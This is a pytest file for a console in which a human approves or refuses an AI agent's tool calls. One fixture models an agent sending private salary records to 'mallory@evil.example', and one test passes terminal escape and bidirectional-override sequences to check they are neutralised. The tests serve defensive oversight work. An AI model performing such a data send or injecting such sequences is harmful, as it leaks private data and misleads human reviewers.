"""`rule-of-two console`: the command line, and the real thing in a real pseudo-terminal of 80 by 24."""

from __future__ import annotations

import os
import re
import shutil
import sys
import tempfile
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from types import SimpleNamespace

import anyio
import click
import pytest
from click.testing import CliRunner

from rule_of_two.approvals.answer import Answer
from rule_of_two.approvals.channel import DeskServer
from rule_of_two.approvals.choice import Choice
from rule_of_two.approvals.desk import Desk
from rule_of_two.approvals.messages import SessionStatus
from rule_of_two.approvals.question import Question
from rule_of_two.cli.console import console
from tests.approvals.samples import a_question

pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="pseudo-terminals")

if sys.platform != "win32":
    import fcntl
    import pty
    import struct
    import termios

import pyte  # noqa: E402  # after what the platform decides

RUN = "from rule_of_two.cli.console import console; console()"
COLOUR = re.compile(rb"\x1b\[(?:[0-9;]*;)?(?:[34][0-8]|9[0-7])(?:;[0-9;]*)?m")


def clock() -> datetime:
    return datetime.now(UTC)


@pytest.fixture
def state() -> Iterator[Path]:
    """A state folder with a path short enough for a socket in it."""
    folder = Path(tempfile.mkdtemp(prefix="r2-", dir="/tmp"))
    yield folder
    shutil.rmtree(folder)


def test_help_says_what_it_does_with_an_example() -> None:
    result = CliRunner().invoke(console, ["--help"])
    assert result.exit_code == 0
    assert "rule-of-two console --state" in result.output
    assert isinstance(console, click.Command)


def test_without_a_terminal_it_is_one_clear_sentence_and_exit_2(state: Path) -> None:
    result = CliRunner().invoke(console, ["--state", str(state)])
    assert result.exit_code == 2
    assert result.output.startswith("Error: The console needs a terminal")
    assert result.output.count("\n") == 1


def test_without_a_state_folder_it_is_one_clear_sentence_and_exit_2() -> None:
    result = CliRunner().invoke(console, [])
    assert (result.exit_code, result.output) == (2, "Error: No state folder: name it with --state.\n")


class Terminal:
    """A real console process in a pseudo-terminal, and its screen."""

    def __init__(self, master: int) -> None:
        self._master = master
        self.screen = pyte.Screen(80, 24)
        self._stream = pyte.ByteStream(self.screen)
        self.output = bytearray()

    async def read(self) -> None:
        """Show what the process prints, until it ends."""
        while True:
            await anyio.wait_readable(self._master)
            try:
                data = os.read(self._master, 65536)
            except OSError:  # the other side is closed: the end, on Linux
                return
            if not data:
                return
            self.output += data
            self._stream.feed(data)

    def text(self) -> str:
        return "\n".join(line.rstrip() for line in self.screen.display)

    async def shows(self, words: str) -> str:
        with anyio.fail_after(20):
            while words not in self.text():
                await anyio.lowlevel.checkpoint()
        return self.text()

    def press(self, keys: bytes) -> None:
        os.write(self._master, keys)


@asynccontextmanager
async def terminal(*arguments: str, **environment: str) -> AsyncIterator[tuple[Terminal, anyio.abc.Process]]:
    master, slave = pty.openpty()
    fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("4H", 24, 80, 0, 0))
    base = {name: value for name, value in os.environ.items() if name != "NO_COLOR"}
    try:
        process = await anyio.open_process(
            [sys.executable, "-c", RUN, *arguments],
            stdin=slave,
            stdout=slave,
            stderr=slave,
            start_new_session=True,
            env={**base, "TERM": "xterm-256color", **environment},
        )
        os.close(slave)
        shown = Terminal(master)
        async with process, anyio.create_task_group() as tasks:
            tasks.start_soon(shown.read)
            try:
                yield shown, process
            finally:
                if process.returncode is None:
                    process.kill()
                tasks.cancel_scope.cancel()
    finally:
        os.close(master)


@asynccontextmanager
async def gateway(state: Path) -> AsyncIterator[Desk]:
    desk = Desk(clock=clock)
    desk.publish("a", SessionStatus(id="s-7f3a91", client="claude-desktop", held=frozenset(("A", "B"))))
    async with anyio.create_task_group() as tasks:
        await tasks.start(DeskServer(desk, state=state, gateway="g1").run)
        yield desk
        tasks.cancel_scope.cancel()


def a_fresh_question(**members: str) -> Question:
    question = a_question(arguments={"to": "mallory@evil.example", "body": "Name, salary\nAlice, 93000\n", **members})
    now = clock()
    moved = now - question.created_at
    held = {label: replace(origin, at=origin.at + moved) for label, origin in question.held.items()}
    return replace(question, held=held, created_at=now, expires_at=now + timedelta(seconds=60))


async def test_a_human_reads_the_question_in_a_real_terminal_and_presses_y(state: Path) -> None:
    question = a_fresh_question()
    outcomes: list[object] = []
    async with gateway(state) as desk, terminal("--state", str(state)) as (shown, process):
        await shown.shows("claude-desktop s-7f3a91 [A][B][ ]")

        async def ask() -> None:
            outcomes.append(await desk.ask(question))

        async with anyio.create_task_group() as tasks:
            tasks.start_soon(ask)
            text = await shown.shows("y  yes, this call once")
            assert_in_order(
                text,
                'The agent wants to send something to "mallory@evil.example" after reading',
                'untrusted "127.0.0.1:8000" and private "/srv/private/salaries.csv".',
                "To       mallory@evil.example",
                "exact arguments",
                "┊ Alice, 93000↵",
                f"end of arguments, sha256 {question.digest[:16]}",
                "[A] untrusted 127.0.0.1:8000",
                "[B] private   /srv/private/salaries.csv",
                "[C] this call changes something or sends something out",
                "Policy   @invariant-rule-of-two",
                "no answer means no",
                "y  yes, this call once",
            )
            await _press_until(shown, b"y", outcomes)
        (answer,) = outcomes
        assert isinstance(answer, Answer)
        assert answer.verdict is Choice.YES
        assert answer.approves(question, now=clock())
        await shown.shows("(unsigned, advisory)")
        shown.press(b"q")
        with anyio.fail_after(20):
            assert await process.wait() == 0


async def _press_until(shown: Terminal, key: bytes, outcomes: list[object]) -> None:
    """A key in the first moment after the question appeared is ignored with a hint: then wait a second, press again."""
    shown.press(key)
    with anyio.fail_after(20):
        while not outcomes:
            if "only just appeared" in shown.text():
                await anyio.sleep(1)  # the human's pause that the console asks for
                shown.press(key)
            await anyio.lowlevel.checkpoint()


def assert_in_order(text: str, *parts: str) -> None:
    place = 0
    for part in parts:
        place = text.find(part, place)
        assert place >= 0, f"{part!r} is missing or out of order in\n{text}"


async def test_hostile_arguments_do_not_reach_the_terminal(state: Path) -> None:
    question = a_fresh_question(body="\x1b[2J\x1b]0;owned\x07\u202e\u200b[bold]x[/]")
    async with gateway(state) as desk, terminal("--state", str(state)) as (shown, _):
        await shown.shows("1 gateway")
        async with anyio.create_task_group() as tasks:
            tasks.start_soon(desk.ask, question)
            await shown.shows("\\u{1b}[2J\\u{1b}]0;owned\\u{7}\\u{202e}\\u{200b}[bold]x[/]")
            assert b"\x1b]0;owned" not in shown.output
            assert "\u202e".encode() not in shown.output
            tasks.cancel_scope.cancel()


async def test_without_colour_the_question_reads_the_same(state: Path) -> None:
    async with gateway(state) as desk:
        for colour, environment in ((True, {}), (False, {"NO_COLOR": "1"})):
            async with terminal("--state", str(state), **environment) as (shown, _):
                await shown.shows("1 gateway")
                async with anyio.create_task_group() as tasks:
                    tasks.start_soon(desk.ask, a_fresh_question())
                    await shown.shows("y  yes, this call once")
                    assert bool(COLOUR.search(shown.output)) is colour
                    tasks.cancel_scope.cancel()


async def test_the_question_is_drawn_again_after_the_terminal_changed_its_size(state: Path) -> None:
    async with gateway(state) as desk, terminal("--state", str(state)) as (shown, process):
        await shown.shows("1 gateway")
        async with anyio.create_task_group() as tasks:
            tasks.start_soon(desk.ask, a_fresh_question())
            await shown.shows("y  yes, this call once")
            shown.screen.resize(30, 100)
            shown.screen.reset()
            fcntl.ioctl(shown._master, termios.TIOCSWINSZ, struct.pack("4H", 30, 100, 0, 0))
            assert "sha256" in await shown.shows("y  yes, this call once")
            tasks.cancel_scope.cancel()
        assert process.returncode is None


async def test_a_state_folder_of_no_use_is_one_clear_sentence_and_exit_2(state: Path) -> None:
    (state / "gateways").write_text("")
    async with terminal("--state", str(state)) as (shown, process):
        with anyio.fail_after(20):
            assert await process.wait() == 2
        await shown.shows("Error: No console can attach:")
        assert "is not a folder" in " ".join(shown.text().split())


async def test_a_console_that_is_killed_leaves_the_call_refused(state: Path) -> None:
    async with gateway(state) as desk, terminal("--state", str(state)) as (shown, process):
        await shown.shows("1 gateway")
        outcomes: list[object] = []

        async def ask() -> None:
            outcomes.append(await desk.ask(a_fresh_question()))

        async with anyio.create_task_group() as tasks:
            tasks.start_soon(ask)
            await shown.shows("wants to send")
            process.kill()
        assert outcomes == ["console_detached"]


def test_the_state_folder_comes_from_the_whole_command(state: Path) -> None:
    """With the lead command's object in place it gets as far as looking for a terminal."""
    result = CliRunner().invoke(console, [], obj=SimpleNamespace(state=state))
    assert "needs a terminal" in result.output
